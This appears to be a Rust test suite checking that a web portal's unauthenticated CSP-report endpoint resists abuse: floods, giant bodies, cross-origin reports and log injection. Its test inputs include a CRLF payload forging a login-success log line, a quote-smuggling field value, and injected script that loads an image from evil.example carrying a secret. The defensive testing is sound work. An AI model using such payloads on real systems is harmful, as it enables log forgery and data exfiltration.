//! The one address that accepts requests from anybody, without a session and without a token.

use std::time::Duration;

use dewar::testing::{Browser, RawRequest, TestResponse, wait_until};
use serde_json::json;

use crate::chromium;
use crate::company::Portal;

const KIND: &str = "application/reports+json";

fn report(blocked: &str) -> serde_json::Value {
    let body = json!({
        "documentURL": "https://localhost/documents/7?q=s3cr3t", "blockedURL": blocked,
        "effectiveDirective": "script-src-elem", "sample": "s3cr3t",
    });
    json!({"type": "csp-violation", "age": 1, "url": "https://localhost/", "body": body})
}

fn to_reports(browser: &Browser) -> RawRequest {
    browser
        .raw("POST", "/browser-reports")
        .header("content-type", KIND)
}

async fn send(browser: &Browser, reports: &serde_json::Value) -> TestResponse {
    to_reports(browser)
        .body(reports.to_string())
        .send()
        .await
        .unwrap()
}

/// The log's lines about violations.
async fn violations(portal: &Portal) -> Vec<String> {
    let log = portal.log().await;
    let about = |line: &&str| line.contains("malicious_csp_violation");
    log.lines().filter(about).map(str::to_owned).collect()
}

/// ASVS: V3.4.7
#[tokio::test(flavor = "multi_thread")]
async fn reports_tell_nobody_who_is_signed_in() {
    let portal = Portal::open().await;
    let (visitor, ada) = (portal.visitor(), portal.member("ada").await);
    let before = portal.everything();
    let mut answers = Vec::new();
    for browser in [&visitor, &ada] {
        answers.push(send(browser, &json!([report("https://evil.example/a")])).await);
        answers.push(send(browser, &json!("nonsense")).await);
        let request = browser.raw("POST", "/browser-reports").form("title=x");
        answers.push(request.send().await.unwrap());
        let foreign = to_reports(browser).header("origin", "https://evil.example");
        answers.push(foreign.body("[]").send().await.unwrap());
    }
    let told = |answer: &TestResponse| {
        let mut headers = answer.headers().clone();
        headers.remove("date");
        (answer.status(), headers, answer.bytes().clone())
    };
    for answer in &answers {
        assert_eq!(answer.status(), 204);
        assert!(answer.bytes().is_empty() && answer.header("set-cookie").is_none());
        assert_eq!(told(answer), told(&answers[0]));
    }
    assert!(portal.everything() == before, "a report changes nothing");
    assert_eq!(violations(&portal).await.len(), 1);
    // Reports have only this endpoint: it shows nothing, and Dewar refuses a form that is not a report.
    assert_eq!(ada.get("/browser-reports").await.status(), 404);
}

/// ASVS: V16.2.5, V2.4.1
#[tokio::test(flavor = "multi_thread")]
async fn a_flood_of_reports_fills_no_log() {
    let portal = Portal::open().await;
    let attacker = portal.visitor();
    for body in 0..40 {
        let kinds = (0..20).map(|kind| report(&format!("https://{body}-{kind}.example/")));
        send(&attacker, &json!(kinds.collect::<Vec<_>>())).await;
    }
    let lines = violations(&portal).await;
    assert!((1..=5).contains(&lines.len()), "{lines:?}");
    assert!(!lines.concat().contains("s3cr3t"));
    portal.clock.advance(Duration::from_secs(601));
    send(&attacker, &json!([report("https://later.example/")])).await;
    let lines = violations(&portal).await;
    assert!(lines.len() <= 12, "{lines:?}");
    assert!(lines.last().unwrap().contains("later.example"));
    assert!(portal.log().await.contains("browser reports were not read"));
}

/// ASVS: V4.2.5
#[tokio::test(flavor = "multi_thread")]
async fn a_giant_report_is_not_read() {
    let portal = Portal::open().await;
    let visitor = portal.visitor();
    let padded = format!(
        "[{}{}]",
        " ".repeat(200_000),
        report("https://evil.example/")
    );
    let deep = format!("{}{}", "[".repeat(8_000), "]".repeat(8_000));
    for body in [padded, deep] {
        // The connection may end before the whole body is sent.
        let answer = to_reports(&visitor).body(body).send().await;
        assert!(answer.is_err() || answer.is_ok_and(|answer| answer.status() == 204));
    }
    assert!(violations(&portal).await.is_empty());
    send(&visitor, &json!([report("https://evil.example/")])).await;
    assert_eq!(violations(&portal).await.len(), 1);
}

/// ASVS: V16.4.1
#[tokio::test(flavor = "multi_thread")]
async fn a_report_writes_no_line_of_its_own_into_the_log() {
    let portal = Portal::open().await;
    let visitor = portal.visitor();
    let forged = "https://evil.example/\r\n{\"seq\":1,\"event\":\"authn_login_success\"}";
    let mut hostile = report(forged);
    hostile["body"]["documentURL"] = json!(forged);
    hostile["body"]["sourceFile"] = json!(forged);
    let before = portal.log().await.lines().count();
    send(&visitor, &json!([hostile])).await;
    let mut word = report("eval");
    word["body"]["effectiveDirective"] = json!("img-src\",\"event\":\"authn_login_success");
    send(&visitor, &json!([word])).await;
    let log = portal.log().await;
    assert_eq!(log.lines().count(), before + 1);
    assert!(
        !log.lines()
            .any(|line| line.contains("\"event\":\"authn_login_success\""))
    );
}

/// ASVS: V3.5.1
#[tokio::test(flavor = "multi_thread")]
async fn another_site_reports_nothing_here() {
    let portal = Portal::open().await;
    let visitor = portal.visitor();
    let body = json!([report("https://evil.example/")]).to_string();
    for (name, value) in [
        ("origin", "https://evil.example"),
        ("origin", "null"),
        ("sec-fetch-site", "cross-site"),
        ("sec-fetch-site", "same-site"),
    ] {
        let request = to_reports(&visitor).header(name, value).body(body.clone());
        assert_eq!(request.send().await.unwrap().status(), 204);
    }
    assert!(violations(&portal).await.is_empty());
    let own = to_reports(&visitor).header("origin", portal.running.url());
    own.header("sec-fetch-site", "same-origin")
        .body(body)
        .send()
        .await
        .unwrap();
    assert_eq!(violations(&portal).await.len(), 1);
}

/// A real browser blocks an injected picture, and Dewar learns of it.
///
/// ASVS: V3.4.7
#[tokio::test(flavor = "multi_thread")]
async fn chromium_reports_a_violation() {
    let portal = Portal::open().await;
    let visitor = portal.visitor();
    let Some(chromium) = chromium::or_skip(&[&visitor]).await else {
        return;
    };
    let page = chromium.person().await.page().await;
    page.goto(&format!("{}/sign-in?q=s3cr3t", portal.running.url()))
        .await;
    let inject = "document.body.append(Object.assign(new Image(), { src: 'https://evil.example/x.png?s3cr3t' }))";
    page.evaluate(&format!("{inject}; 1")).await;
    // A browser sends its reports within a minute, and at once when the user leaves the page.
    page.goto(&format!("{}/", portal.running.url())).await;
    let mut lines = Vec::new();
    wait_until("a report comes", async || {
        lines = violations(&portal).await;
        !lines.is_empty()
    })
    .await;
    let line = lines.first().expect("no report came");
    assert!(
        line.contains("img-src forbids https://evil.example/x.png"),
        "{line}"
    );
    assert!(
        line.contains("\"/sign-in\"") && !line.contains("s3cr3t"),
        "{line}"
    );
}
